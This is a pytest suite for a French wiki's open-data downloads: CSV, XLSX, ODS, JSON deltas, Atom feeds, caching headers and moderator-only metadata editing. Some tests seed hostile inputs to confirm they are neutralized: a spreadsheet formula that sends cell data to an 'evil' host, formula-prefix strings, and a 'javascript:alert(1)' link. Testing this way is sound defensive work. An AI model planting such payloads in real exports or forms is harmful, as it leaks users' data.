"""Open-data downloads through HTTP, each re-read with the library its users would use."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC
from datetime import datetime
from datetime import timedelta

import pytest
from defusedxml import ElementTree

from tests.exports_support import login
from tests.wiki.exports.conftest import record_values
from wiki.records import form_services
from wiki.records import services

ATOM = "{http://www.w3.org/2005/Atom}"


def _csv(response, delimiter=","):
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=delimiter))


def test_catalog_lists_every_dataset_with_its_downloads(client, seeded):
    page = client.get("/donnees")
    assert page.status_code == 200
    text = page.text
    assert "Fermes" in text and "Licence Ouverte / Open Licence 2.0" in text and "Pages du wiki" in text
    for suffix in ("csv", "tableur.csv", "json", "xlsx", "ods", "geojson", "ics", "atom"):
        assert f"/donnees/fermes.{suffix}" in text
    assert "/donnees/fermes/datapackage.json" in text and "/donnees/pages.zip" in text
    assert "/donnees/catalog.jsonld" in text


def test_formats_follow_the_public_fields_of_each_form(client, db, seeded):
    form_services.create_form(db, key="marches", title="Marchés", actor=seeded.moderator, fields=[
        {"id": "f_10000001", "key": "title", "type": "text", "label": "Nom"},
        {"id": "f_10000002", "key": "lieu", "type": "geometry", "label": "Lieu"},
    ])  # fmt: skip
    db.commit()
    text = client.get("/donnees").text
    assert "/donnees/fermes.ics" in text and "/donnees/fermes.geojson" in text
    assert "/donnees/marches.geojson" in text and "/donnees/marches.ics" not in text  # no schedule, no calendar
    fields = [f.to_dict() for f in form_services.form_fields(seeded.form)]
    for field in fields:
        if field["type"] in ("geometry", "schedule"):
            field["visibility"] = "private"
    form_services.update_form(db, seeded.form, title="Fermes", fields=fields, actor=seeded.moderator)
    db.commit()
    text = client.get("/donnees").text
    assert "/donnees/fermes.csv" in text and "/donnees/fermes.geojson" not in text and "/donnees/fermes.ics" not in text


def test_directory_list_links_to_its_dataset(client, seeded):
    assert 'href="/donnees/fermes"' in client.get("/annuaire/fermes").text


def test_dataset_page_documents_each_column(client, seeded):
    page = client.get("/donnees/fermes")
    assert page.status_code == 200
    text = page.text
    assert "<caption>" in text and 'scope="col"' in text and 'scope="row"' in text
    for column in ("categorie", "prix", "places", "horaire_debut", "horaire_recurrence", "localisation", "updated_at"):
        assert f"<code>{column}</code>" in text
    assert "<code>bio</code> : Bio" in text
    assert "courriel_perso" not in text and "note_interne" not in text and "telephone_perso" not in text
    assert "Alimentation" in text and "35236" in text  # themes and spatial coverage from the records


def test_csv_is_canonical_utf8_with_typed_values(client, seeded):
    response = client.get("/donnees/fermes.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.headers["X-Content-Type-Options"] == "nosniff"
    assert 'filename="fermes.csv"' in response.headers["Content-Disposition"]
    assert not response.data.startswith(b"\xef\xbb\xbf")
    rows = _csv(response)
    assert [r["id"] for r in rows] == [str(r.id) for r in seeded.records]
    first = rows[0]
    assert (
        first["title"] == "Ferme n° 1"
        and first["categorie"] == "bio"
        and first["prix"] == "13.5"
        and first["places"] == "11"
    )
    assert (
        first["ouvert"] == "true"
        and first["creation"] == "2019-05-02"
        and first["inauguration"].startswith("2026-05-02T14:00:00")
    )
    assert first["horaire_debut"] == "2026-05-02T14:00" and first["horaire_recurrence"] == "FREQ=WEEKLY;COUNT=4"
    assert json.loads(first["localisation"])["type"] == "Point" and first["publics"] == "jeunes;aines"
    assert "courriel_perso" not in first and "note_interne" not in first


def test_spreadsheet_csv_has_bom_semicolons_and_neutralized_formulas(client, db, seeded):
    services.update_record(db, seeded.records[0], record_values(1, title="=HYPERLINK(\"http://evil/?\"&A1,\"x\")", presentation="@SUM(A1)"),
                           actor=seeded.moderator, policy="account", base_revision=None)  # fmt: skip
    db.commit()
    raw = client.get("/donnees/fermes.csv")
    assert _csv(raw)[0]["title"].startswith("=HYPERLINK")  # the canonical data stays faithful
    response = client.get("/donnees/fermes.tableur.csv")
    assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf")
    rows = _csv(response, delimiter=";")
    assert rows[0]["title"].startswith("'=HYPERLINK") and rows[0]["presentation"] == "'@SUM(A1)"
    assert rows[1]["title"] == "Ferme n° 2"


def test_json_export_with_since_lists_changes_and_tombstones(client, db, seeded):
    whole = client.get("/donnees/fermes.json").get_json()
    assert whole["dataset"]["key"] == "fermes" and "deleted" not in whole
    first = whole["records"][0]
    assert first["horaire"]["rrule"] == "FREQ=WEEKLY;COUNT=4" and first["localisation"]["type"] == "Point"
    assert first["url"].endswith(f"/fiches/{seeded.records[0].id}") and "courriel_perso" not in first
    later = datetime.now(UTC) + timedelta(seconds=1)
    assert client.get("/donnees/fermes.json", query_string={"since": later.isoformat()}).get_json()["records"] == []
    before = (datetime.now(UTC) - timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M:%SZ")
    services.delete_record(db, seeded.records[1], actor=seeded.moderator)
    services.set_status(db, seeded.records[2], "draft", actor=seeded.moderator)
    draft = services.create_record(
        db, seeded.form, record_values(9), actor=seeded.moderator, policy="account", status="draft"
    )
    db.commit()
    delta = client.get("/donnees/fermes.json", query_string={"since": before}).get_json()
    assert [r["id"] for r in delta["records"]] == [seeded.records[0].id]
    removed = {item["id"] for item in delta["deleted"]}
    assert removed == {seeded.records[1].id, seeded.records[2].id}  # never the draft that was never published
    assert draft.id not in removed


@pytest.mark.parametrize("since", ["hier", "2026-13-01", "2026-05-02T25:00"])
def test_invalid_since_is_a_clear_400(client, seeded, since):
    response = client.get("/donnees/fermes.csv", query_string={"since": since})
    assert response.status_code == 400 and "since" in response.text and "date ISO" in response.text


def test_downloads_answer_304_and_change_validators_on_edit(client, db, seeded):
    first = client.get("/donnees/fermes.csv")
    etag, modified = first.headers["ETag"], first.headers["Last-Modified"]
    assert etag.startswith('W/"') and modified
    assert client.get("/donnees/fermes.csv", headers={"If-None-Match": etag}).status_code == 304
    assert client.get("/donnees/fermes.csv", headers={"If-Modified-Since": modified}).status_code == 304
    assert (
        client.get("/donnees/fermes.json", headers={"If-None-Match": etag}).status_code == 200
    )  # one validator per format
    services.update_record(
        db,
        seeded.records[0],
        record_values(1, title="Ferme renommée"),
        actor=seeded.moderator,
        policy="account",
        base_revision=None,
    )
    db.commit()
    again = client.get("/donnees/fermes.csv", headers={"If-None-Match": etag})
    assert again.status_code == 200 and again.headers["ETag"] != etag and "Ferme renommée" in again.text


def test_xlsx_reads_back_with_openpyxl_and_holds_no_formula(client, db, seeded):
    from openpyxl import load_workbook

    services.update_record(
        db,
        seeded.records[0],
        record_values(1, title="=1+1"),
        actor=seeded.moderator,
        policy="account",
        base_revision=None,
    )
    db.commit()
    response = client.get("/donnees/fermes.xlsx")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('"fermes.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert header[:3] == ["id", "title", "categorie"]
    assert (
        rows[1][header.index("title")] == "'=1+1"
        and rows[2][header.index("prix")] == 14.5
        and rows[2][header.index("ouvert")] is False
    )
    assert len(rows) == 4


def test_ods_reads_back_with_odfpy(client, db, seeded):
    from odf import opendocument
    from odf import table
    from odf import text as odftext

    services.update_record(
        db,
        seeded.records[0],
        record_values(1, title="+1+1 <b>&</b>"),
        actor=seeded.moderator,
        policy="account",
        base_revision=None,
    )
    db.commit()
    response = client.get("/donnees/fermes.ods")
    assert response.status_code == 200 and response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert (
        archive.namelist()[0] == "mimetype"
        and archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    )
    document = opendocument.load(io.BytesIO(response.data))
    rows = document.spreadsheet.getElementsByType(table.TableRow)
    cells = [
        ["".join(str(p) for p in cell.getElementsByType(odftext.P)) for cell in row.getElementsByType(table.TableCell)]
        for row in rows
    ]
    assert cells[0][:2] == ["id", "title"] and cells[1][1] == "'+1+1 <b>&</b>" and len(cells) == 4
    prix = rows[2].getElementsByType(table.TableCell)[cells[0].index("prix")]
    assert prix.getAttribute("valuetype") == "float" and prix.getAttribute("value") == "14.5"


def test_pages_archive_holds_markdown_with_front_matter(client, seeded):
    import yaml

    response = client.get("/donnees/pages.zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None
    text = archive.read("pages/marche-de-redon.md").decode("utf-8")
    _, front, body = text.split("---\n", 2)
    meta = yaml.safe_load(front)
    assert (
        meta["title"] == "Marché de Redon" and meta["url"].endswith("/pages/marche-de-redon") and meta["revision"] == 1
    )
    assert body.strip() == "Le marché a lieu le lundi."


def test_dataset_feed_lists_changes_of_its_records(client, db, seeded):
    response = client.get("/donnees/fermes.atom")
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    feed = ElementTree.fromstring(response.data)
    titles = [e.findtext(f"{ATOM}title") for e in feed.findall(f"{ATOM}entry")]
    assert sorted(titles) == ["Ferme n° 1", "Ferme n° 2", "Ferme n° 3"]
    pages = ElementTree.fromstring(client.get("/donnees/pages.atom").data)
    assert [e.findtext(f"{ATOM}title") for e in pages.findall(f"{ATOM}entry")] == ["Marché de Redon"]


def test_unknown_dataset_or_format_is_404(client, seeded):
    assert client.get("/donnees/inconnu.csv").status_code == 404
    assert client.get("/donnees/inconnu").status_code == 404
    assert client.get("/donnees/fermes.exe").status_code == 404
    assert client.get("/donnees/pages.csv").status_code == 404


def test_moderator_edits_metadata_and_catalog_follows(client, seeded):
    login(client, "Modo")
    assert client.get("/donnees/fermes/modifier").status_code == 200
    response = client.post("/donnees/fermes/modifier", data={
        "title": "", "description": "", "license": "odbl-1.0", "frequency": "monthly",
        "contact_name": "Conseil de développement", "contact_email": "contact@cdd.example.org", "contact_url": "", "keywords": "agriculture, circuits courts",
    })  # fmt: skip
    assert response.status_code == 302
    page = client.get("/donnees/fermes").text
    assert (
        "Open Database License" in page
        and "mensuelle" in page
        and "Conseil de développement" in page
        and "circuits courts" in page
    )


def test_refused_metadata_keeps_the_input(client, seeded):
    login(client, "Modo")
    response = client.post("/donnees/fermes/modifier", data={
        "title": "Mon titre", "description": "Ma longue description", "license": "proprietaire", "frequency": "monthly",
        "contact_email": "pas-un-courriel", "contact_url": "javascript:alert(1)", "keywords": "",
    })  # fmt: skip
    assert response.status_code == 400
    text = response.text
    assert 'value="Mon titre"' in text and "Ma longue description" in text and 'value="pas-un-courriel"' in text
    assert "Choisissez une licence" in text and "courriel invalide" in text and 'aria-invalid="true"' in text


def test_only_moderators_edit_metadata(client, db, seeded):
    from tests.factories import make_user

    make_user(db, "Camille")
    db.commit()
    assert "/-/connexion" in client.get("/donnees/fermes/modifier").location
    login(client, "Camille")
    assert client.get("/donnees/fermes/modifier").status_code == 403
    assert (
        client.post("/donnees/fermes/modifier", data={"license": "odbl-1.0", "frequency": "monthly"}).status_code == 403
    )


def test_concurrent_downloads_beyond_the_limit_wait_their_turn(make_app, db):
    from tests.factories import make_user
    from tests.wiki.exports.conftest import FIELDS

    app = make_app(EXPORT_CONCURRENCY=1)
    moderator = make_user(db, "Modo", role="moderator")
    form = form_services.create_form(db, key="fermes", title="Fermes", fields=FIELDS, actor=moderator)
    services.create_record(db, form, record_values(1, themes=[]), actor=moderator, policy="account")
    db.commit()
    client = app.test_client()
    # Filtered downloads (here ``?since=``) are streamed live, each in an export slot.
    first = client.get("/donnees/fermes.csv?since=2000-01-01", buffered=False)
    assert first.status_code == 200
    busy = client.get("/donnees/fermes.json?since=2000-01-01")
    assert busy.status_code == 503 and busy.headers["Retry-After"] == "30" and "réessayez" in busy.text
    first.close()  # the client went away: its slot is free again
    assert client.get("/donnees/fermes.json?since=2000-01-01").status_code == 200
    for _ in range(3):  # each download consumed in turn frees its slot
        assert b"Ferme n" in client.get("/donnees/fermes.csv?since=2000-01-01").data
